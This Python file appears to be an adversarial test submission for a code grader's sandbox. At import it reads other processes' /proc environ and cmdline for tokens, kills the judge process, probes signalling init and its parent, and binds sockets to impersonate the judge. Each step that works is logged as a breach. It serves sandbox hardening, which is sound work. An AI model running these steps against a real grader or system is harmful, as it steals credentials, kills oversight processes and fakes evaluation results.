"""Kill or impersonate the judge, read secrets from /proc, probe signals and sockets.

In the old design the judge listened on a Unix socket named in the kernel's environment, with a
session token: a submission could read both (also from ``/proc/<pid>/environ`` of any grading
process), kill the judge and serve its own verdicts on the same path. From the kernel and from
the sealed run, this submission:

- lists ``/proc`` and reads every other process's ``environ`` and ``cmdline`` (tokens, paths);
- kills every judge (``gradecore.judge.service`` in its command line) of a grading of this harness's
  batches (a process whose ancestors' command lines name ``rnn-shapes-attack-batch``);
- probes with signal 0 whether it may signal init and its own parent;
- binds a Unix socket (the old judge's way), a UDP socket, and a fixed TCP port, and listens on
  an ephemeral TCP port (which the kernel may: ipykernel needs them).

manual_forward is implemented correctly (graded in the sealed run, whatever the kernel does).
"""

EXPECT = {"count_params": 0, "weight_shapes": 0, "extract_weights": 0, "manual_forward": 2,
          "batched_forward": 0, "sequence_forward": 0}

NAME = "judge_kill_environ"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import signal  # noqa: E402
import socket  # noqa: E402

import numpy as np  # noqa: E402

MARKER = b"rnn-shapes-attack-batch"


def read(path):
    with open(path, "rb") as f:
        return f.read()


def parent_of(pid):
    try:
        return int(read(f"/proc/{pid}/stat").rsplit(b")", 1)[1].split()[1])
    except (OSError, IndexError, ValueError):
        return 0


def ours(pid):
    """Whether a process descends from one of this harness's graders (never anyone else's)."""
    for _ in range(12):
        pid = parent_of(pid)
        if pid <= 1:
            return False
        try:
            if MARKER in read(f"/proc/{pid}/cmdline"):
                return True
        except OSError:
            return False
    return False


def scan_proc():
    try:
        pids = [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return
    breach(f"listed /proc ({len(pids)} processes)")
    me, environs, secrets = os.getpid(), 0, []
    for pid in pids:
        if pid == me:
            continue
        try:
            environ = read(f"/proc/{pid}/environ")
        except OSError:
            environ = None
        if environ:
            environs += 1
            secrets += [v for v in environ.split(b"\0") if v.startswith((b"RNN_SHAPES_", b"GRADECORE_"))]
        try:
            cmdline = read(f"/proc/{pid}/cmdline")
        except OSError:
            continue
        if b"gradecore.judge.service" in cmdline and ours(pid):
            tried(f"killed the judge {pid}", lambda: os.kill(pid, signal.SIGKILL))
    if environs:
        breach(f"read {environs} other processes' environ: {b' '.join(sorted(set(secrets)))[:100]!r}")


def sockets():
    def unix():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(os.path.join(os.environ.get("HOME", "/tmp"), "judge.sock"))
        s.listen(1)

    def udp():
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).bind(("127.0.0.1", 0))

    def fixed_tcp():
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        s.bind(("127.0.0.1", 47991))
        s.listen(1)

    tried("bound a Unix socket", unix)
    tried("bound a UDP socket", udp)
    tried("bound TCP port 47991", fixed_tcp)
    try:  # the kernel may listen on an ephemeral port; the sealed run may not even make a socket
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind(("127.0.0.1", 0))
        s.listen(1)
        if SEALED:
            breach("the sealed run listened on TCP")
    except OSError:
        pass


scan_proc()
tried("may signal init", lambda: os.kill(1, 0))
tried("may signal its parent", lambda: os.kill(os.getppid(), 0))
sockets()


def count_params(T, D, M, K):
    raise NotImplementedError


def weight_shapes(D, M, K):
    raise NotImplementedError


def extract_weights(model):
    raise NotImplementedError


def manual_forward(X, Wx, Wh, bh, Wo, bo):
    h = np.zeros(Wh.shape[0])
    for x_t in X:
        h = np.tanh(x_t @ Wx + h @ Wh + bh)
    return h @ Wo + bo


def batched_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def sequence_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


finish()
